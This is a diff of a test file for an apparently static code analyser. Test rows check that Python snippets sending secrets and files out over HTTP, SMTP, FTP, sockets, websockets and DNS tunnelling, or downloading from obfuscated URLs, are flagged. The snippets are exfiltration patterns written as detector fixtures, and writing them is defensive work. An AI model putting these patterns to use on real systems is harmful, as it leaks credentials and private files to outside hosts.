@@ -17,30 +17,72 @@ describe("data leaves", () => {
     [`requests.get('${U}', params={'q': os.getenv('A_KEY')})`, `send http ${U} [~{q: …} <$A_KEY>]`],
     [`requests.get('${U}', auth=('u', os.getenv('A_KEY')))`, `send http ${U} [~[u, …] <$A_KEY>]`],
     [`requests.get('${U}?k=' + os.getenv('A_KEY'))`, `send http ~${U}?k=… <$A_KEY> [~${U}?k=… <$A_KEY>]`],
-    [`s = requests.Session()\ns.headers.update({'A': os.getenv('A_KEY')})\ns.get('${U}')`, `send http ${U} [~{A: …} <$A_KEY>]`],
+    [
+      `s = requests.Session()\ns.headers.update({'A': os.getenv('A_KEY')})\ns.get('${U}')`,
+      `send http ${U} [~{A: …} <$A_KEY>]`,
+    ],
     [`s = requests.Session()\ns.headers['A'] = os.getenv('A_KEY')\ns.get('${U}')`, `send http ${U} [~… <$A_KEY>]`],
     [`with httpx.Client(base_url='https://c.example') as c:\n  c.post('/x', content='a')`, `send http ${U} [a]`],
-    [`async def m():\n  async with aiohttp.ClientSession() as s:\n    async with s.post('${U}', data='a') as r: pass\nasyncio.run(m())`, `send http ${U} [a]`],
+    [
+      `async def m():\n  async with aiohttp.ClientSession() as s:\n    async with s.post('${U}', data='a') as r: pass\nasyncio.run(m())`,
+      `send http ${U} [a]`,
+    ],
     [`def f(client: httpx.AsyncClient):\n  client.post('${U}', json='a')`, `send http ${U} [a]`],
     [`def f(client):\n  client.post('${U}', json='a')`, `send http ${U} [a]`],
     [`urllib.request.urlopen('${U}', b'a')`, `send http ${U} [a]`],
-    [`r = urllib.request.Request('${U}', data=json.dumps(open('/tmp/a').read()).encode())\nurllib.request.urlopen(r)`, `send http ${U} [~… </tmp/a>]`],
-    [`r = urllib.request.Request('${U}')\nr.add_header('A', os.getenv('A_KEY'))\nurllib.request.urlopen(r)`, `send http ${U} [~… <$A_KEY>]`],
+    [
+      `r = urllib.request.Request('${U}', data=json.dumps(open('/tmp/a').read()).encode())\nurllib.request.urlopen(r)`,
+      `send http ${U} [~… </tmp/a>]`,
+    ],
+    [
+      `r = urllib.request.Request('${U}')\nr.add_header('A', os.getenv('A_KEY'))\nurllib.request.urlopen(r)`,
+      `send http ${U} [~… <$A_KEY>]`,
+    ],
     [`c = http.client.HTTPSConnection('c.example')\nc.request('POST', '/x', 'a')`, `send http ${U} [a]`],
     [`c = pycurl.Curl()\nc.setopt(c.URL, '${U}')\nc.setopt(pycurl.POSTFIELDS, 'a')\nc.perform()`, `send http ${U} [a]`],
     [`boto3.client('s3').upload_file('/tmp/a', 'bucket', 'k')`, "send http s3://bucket [~… </tmp/a>]"],
     [`boto3.client('s3').put_object(Bucket='bucket', Body='a')`, "send http s3://bucket [a]"],
     [`telebot.TeleBot('t').send_message('1', 'a')`, "send http https://api.telegram.org/ [1, a]"],
-    [`s = smtplib.SMTP('mail.example', 25)\ns.sendmail('a', 'b', open('/tmp/a').read())`, "send mail mail.example:25 [a, b, ~… </tmp/a>]"],
-    [`f = ftplib.FTP('c.example')\nf.storbinary('STOR x', open('/tmp/a', 'rb'))`, "send socket ftp://c.example/x [~… </tmp/a>]"],
-    [`s = socket.socket()\ns.connect(('192.0.2.1', 80))\ns.sendall(open('/tmp/a', 'rb').read())`, "send socket 192.0.2.1:80 [~… </tmp/a>]"],
-    [`s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'a', ('192.0.2.1', 80))`, "send socket 192.0.2.1:80 [a]"],
-    [`w = websocket.create_connection('wss://c.example')\nw.send(open('/tmp/a').read())`, "send websocket wss://c.example [~… </tmp/a>]"],
-    [`socket.gethostbyname(os.getenv('A_KEY') + '.c.example')`, "send dns ~….c.example <$A_KEY> [~….c.example <$A_KEY>]"],
-    [`dns.resolver.resolve(base64.b32encode(os.getenv('A_KEY').encode()).decode() + '.c.example')`, "send dns ~….c.example <$A_KEY> [~….c.example <$A_KEY>]"],
-    [`b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z: z.write('/tmp/a')\nrequests.post('${U}', data=b.getvalue())`, `send http ${U} [~… </tmp/a>]`],
-    [`z = zipfile.ZipFile('/tmp/z', 'w')\nz.write('/tmp/a')\nrequests.post('${U}', data=open('/tmp/z', 'rb'))`, `send http ${U} [~… </tmp/z, /tmp/a>]`],
-    [`shutil.make_archive('/tmp/z', 'zip', '/tmp/d')\nrequests.post('${U}', data=open('/tmp/z.zip', 'rb'))`, `send http ${U} [~… </tmp/z.zip, /tmp/d>]`],
+    [
+      `s = smtplib.SMTP('mail.example', 25)\ns.sendmail('a', 'b', open('/tmp/a').read())`,
+      "send mail mail.example:25 [a, b, ~… </tmp/a>]",
+    ],
+    [
+      `f = ftplib.FTP('c.example')\nf.storbinary('STOR x', open('/tmp/a', 'rb'))`,
+      "send socket ftp://c.example/x [~… </tmp/a>]",
+    ],
+    [
+      `s = socket.socket()\ns.connect(('192.0.2.1', 80))\ns.sendall(open('/tmp/a', 'rb').read())`,
+      "send socket 192.0.2.1:80 [~… </tmp/a>]",
+    ],
+    [
+      `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'a', ('192.0.2.1', 80))`,
+      "send socket 192.0.2.1:80 [a]",
+    ],
+    [
+      `w = websocket.create_connection('wss://c.example')\nw.send(open('/tmp/a').read())`,
+      "send websocket wss://c.example [~… </tmp/a>]",
+    ],
+    [
+      `socket.gethostbyname(os.getenv('A_KEY') + '.c.example')`,
+      "send dns ~….c.example <$A_KEY> [~….c.example <$A_KEY>]",
+    ],
+    [
+      `dns.resolver.resolve(base64.b32encode(os.getenv('A_KEY').encode()).decode() + '.c.example')`,
+      "send dns ~….c.example <$A_KEY> [~….c.example <$A_KEY>]",
+    ],
+    [
+      `b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z: z.write('/tmp/a')\nrequests.post('${U}', data=b.getvalue())`,
+      `send http ${U} [~… </tmp/a>]`,
+    ],
+    [
+      `z = zipfile.ZipFile('/tmp/z', 'w')\nz.write('/tmp/a')\nrequests.post('${U}', data=open('/tmp/z', 'rb'))`,
+      `send http ${U} [~… </tmp/z, /tmp/a>]`,
+    ],
+    [
+      `shutil.make_archive('/tmp/z', 'zip', '/tmp/d')\nrequests.post('${U}', data=open('/tmp/z.zip', 'rb'))`,
+      `send http ${U} [~… </tmp/z.zip, /tmp/d>]`,
+    ],
   ])("%s", (code, expected) => {
     expect(operationsOf(IMPORTS + code).filter((line) => line.startsWith("send"))).toEqual([expected]);
   });
@@ -64,9 +106,18 @@ describe("bytes arrive", () => {
     [`requests.get(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUveA==').decode())`, [`download ${U} {base64}`]],
     [`urllib.request.urlretrieve('${U}', '/tmp/a')`, [`download ${U} to /tmp/a`]],
     [`open('/tmp/a', 'wb').write(requests.get('${U}').content)`, [`download ${U}`, `download ${U} to /tmp/a`]],
-    [`r = requests.get('${U}', stream=True)\nwith open('/tmp/a', 'wb') as f:\n  for c in r.iter_content(1): f.write(c)`, [`download ${U}`, `download ${U} to /tmp/a`]],
-    [`r = urllib.request.urlopen('${U}')\nwith open('/tmp/a', 'wb') as f: shutil.copyfileobj(r, f)`, [`download ${U}`, `download ${U} to /tmp/a`]],
-    [`from pathlib import Path\nPath('/tmp/a').write_bytes(httpx.get('${U}').content)`, [`download ${U}`, `download ${U} to /tmp/a`]],
+    [
+      `r = requests.get('${U}', stream=True)\nwith open('/tmp/a', 'wb') as f:\n  for c in r.iter_content(1): f.write(c)`,
+      [`download ${U}`, `download ${U} to /tmp/a`],
+    ],
+    [
+      `r = urllib.request.urlopen('${U}')\nwith open('/tmp/a', 'wb') as f: shutil.copyfileobj(r, f)`,
+      [`download ${U}`, `download ${U} to /tmp/a`],
+    ],
+    [
+      `from pathlib import Path\nPath('/tmp/a').write_bytes(httpx.get('${U}').content)`,
+      [`download ${U}`, `download ${U} to /tmp/a`],
+    ],
     [`import urllib2\nurllib2.urlopen('${U}').read()`, [`download ${U}`]],
   ])("%s", (code, expected) => {
     expect(operationsOf(IMPORTS + code).filter((line) => line.startsWith("download"))).toEqual(expected);
